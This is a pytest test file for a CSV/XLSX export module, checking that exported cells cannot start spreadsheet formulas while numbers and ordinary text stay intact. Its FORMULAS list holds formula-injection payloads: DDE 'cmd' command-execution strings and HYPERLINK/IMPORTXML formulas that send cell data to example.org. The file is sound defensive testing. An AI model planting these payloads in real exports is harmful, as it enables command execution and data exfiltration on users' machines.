"""CSV and XLSX: what a person typed never becomes a formula, and numbers stay readable."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from koppel.apps.ui.export import csv_bytes, guarded, xlsx_bytes

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://example.org?v=", A1), "//a")',
    "+cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0bSUM(1)",
    "\uff0dA1",
    "\uff20SUM(1)",
    "=",
    "+",
    "@",
    "+1+1",
    "-1-cmd|x",
)
READABLE = (
    "-5",
    "-1.234",
    "+31 6 12345678",
    "+31 (0)53 489 9111",
    "-0,5".replace(",", "."),
    "06-12345678",
    "-",
    "053/489",
    "--",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text_in_csv(formula):
    written = csv_bytes(["name"], [[formula]]).decode("utf-8-sig")
    cell = next(csv.reader(StringIO(written.split("\r\n", 1)[1], newline="")))[0]
    assert cell.startswith("'")
    assert cell.lstrip("'").replace("'", "") == formula.replace("'", "")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text_in_xlsx(formula):
    cell = load_workbook(BytesIO(xlsx_bytes(["name"], [[formula]]))).active["A2"]
    assert cell.data_type == "s"
    assert str(cell.value).replace("_x000D_", "\r").replace("\r", "\n") == formula.replace("\r", "\n")


@pytest.mark.parametrize("number", READABLE)
def test_telephone_numbers_and_negative_numbers_stay_readable(number):
    assert guarded(number) == number


@pytest.mark.parametrize("separator", [";", ",", "\t", "\n"])
@pytest.mark.parametrize("formula", ["=1+1", "@SUM(1)", "+cmd|x", "-cmd|x"])
def test_a_program_with_another_separator_finds_no_formula_either(separator, formula):
    assert f"{separator}{formula}" not in guarded(f"Acme{separator}{formula}")


@pytest.mark.parametrize("text", ["Jansen, -5 graden", "A; B", "x - y", "e@mail.nl", "a=b", "Acme, 12"])
def test_ordinary_text_is_left_as_it_is(text):
    assert guarded(text) == text


@given(st.text(max_size=40))
def test_no_cell_starts_a_formula(text):
    first = guarded(text).lstrip()[:1]
    assert first not in {"=", "@"}


def test_headers_are_guarded_too():
    assert csv_bytes(["=1+1"], []).decode("utf-8-sig") == '"\'=1+1"\r\n'


def test_values_keep_their_kind():
    row = [
        1,
        -2.5,
        Decimal("3.10"),
        True,
        None,
        date(2026, 12, 3),
        datetime(2026, 7, 1, 22, 30, tzinfo=UTC),
        ["a", "b"],
    ]
    written = csv_bytes(["x"] * 8, [row]).decode("utf-8-sig").split("\r\n")[1]
    assert written == '1,-2.5,3.10,"1","","2026-12-03","2026-07-02 00:30:00","a, b"'


def test_a_workbook_holds_the_same_rows_and_real_numbers():
    sheet = load_workbook(
        BytesIO(xlsx_bytes(["Name", "Records"], ([name, 3] for name in ("Acme", "Bolt")), title="a/b:c"))
    ).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Name", "Records"],
        ["Acme", 3],
        ["Bolt", 3],
    ]
    assert sheet["A2"].number_format == "@" and sheet.title == "a b c"


def test_control_characters_and_endless_texts_do_not_break_a_workbook():
    cell = load_workbook(BytesIO(xlsx_bytes(["x"], [["a\x00b\x0b" + "c" * 40_000]]))).active["A2"]
    assert cell.value.startswith("abc") and len(cell.value) == 32_767


def test_a_moment_is_written_in_the_time_of_the_page():
    sheet = load_workbook(BytesIO(xlsx_bytes(["x"], [[datetime(2026, 7, 1, 22, 30, tzinfo=UTC)]]))).active
    assert sheet["A2"].value == datetime(2026, 7, 2, 0, 30)


def test_csv_opens_as_unicode():
    assert csv_bytes(["Coöperatie"], []).startswith(b"\xef\xbb\xbf")
